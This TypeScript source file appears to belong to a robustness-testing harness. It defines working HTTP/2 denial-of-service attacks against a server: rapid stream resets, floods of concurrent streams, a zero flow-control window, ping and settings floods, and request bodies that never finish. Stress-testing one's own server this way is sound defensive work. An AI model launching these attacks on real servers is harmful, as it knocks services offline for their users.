import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
import type { Attack, AttackTools } from './hostile-attack.ts';
import type { AttackSurface } from './hostile-request.ts';

const { NGHTTP2_CANCEL } = constants;
const LARGE = ['/openapi.json', '/api/currencies', '/'];

/** Attacks over HTTP/2, for servers with `AttackSurface.http2`. Each counts as one input. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  http2Attack('rapid resets', 12, async (session, { random, pause }) => {
    for (let count = random.between(20, 400); count > 0 && !session.destroyed; count -= 1) {
      const stream = asked(session, random.pick(LARGE));
      // After the request, which would otherwise not be sent at all.
      setImmediate(() => stream?.close(NGHTTP2_CANCEL));
      if (count % 40 === 0) await pause(2);
    }
    await pause(20);
  }),
  http2Attack('many streams at once', 6, async (session, { random, pause }) => {
    for (let count = random.between(50, 600); count > 0; count -= 1) asked(session, random.pick(LARGE))?.resume();
    await pause(random.between(100, 3_000));
  }),
  http2Attack(
    'a window that never opens',
    6,
    async (session, { random, pause }) => {
      for (let count = random.between(1, 100); count > 0; count -= 1) asked(session, random.pick(LARGE));
      await pause(random.between(500, 6_000));
    },
    { initialWindowSize: 0 },
  ),
  http2Attack('pings and settings without end', 6, async (session, { random, pause }) => {
    for (let count = random.between(20, 400); count > 0 && !session.destroyed; count -= 1) {
      if (random.chance(0.5)) session.ping(() => {});
      else session.settings({ enablePush: false, maxHeaderListSize: random.between(1, 60_000) });
      if (count % 20 === 0) await pause(5);
    }
  }),
  http2Attack('bodies that never end', 4, async (session, { random, surface, pause }) => {
    for (let count = random.between(1, 60); count > 0; count -= 1) {
      const headers = { 'content-type': 'application/json', cookie: surface.cookie, 'x-csrf-token': surface.token };
      asked(session, '/exchange/estimate', { ':method': 'POST', ...headers }, false)?.write('{');
    }
    await pause(random.between(200, 4_000));
  }),
];

function http2Attack(
  name: string,
  weight: number,
  run: (session: ClientHttp2Session, tools: AttackTools) => Promise<void>,
  settings = {},
): Attack {
  return {
    name: `HTTP/2: ${name}`,
    weight,
    inputs: 1,
    isSlow: true,
    fits: ({ http2 }: AttackSurface) => http2 !== undefined,
    run: async (tools) => {
      // The server's certificate is self-signed.
      const session = connect(tools.surface.http2!, { settings, rejectUnauthorized: false });
      session.on('error', () => {});
      const closed = new Promise((resolve) => session.once('close', resolve));
      await Promise.race([new Promise((resolve) => session.once('connect', resolve)), closed]);
      await run(session, tools);
      if (tools.random.chance(0.5)) await tools.pause(50);
      session.destroy();
      await closed;
      return 1;
    },
  };
}

/** A request whose answer is not waited for; undefined when the session is closed. */
function asked(
  session: ClientHttp2Session,
  path: string,
  headers = {},
  endStream = true,
): ClientHttp2Stream | undefined {
  if (session.destroyed || session.closed) return undefined;
  const stream = session.request({ ':path': path, ...headers }, { endStream });
  stream.on('error', () => {});
  return stream;
}
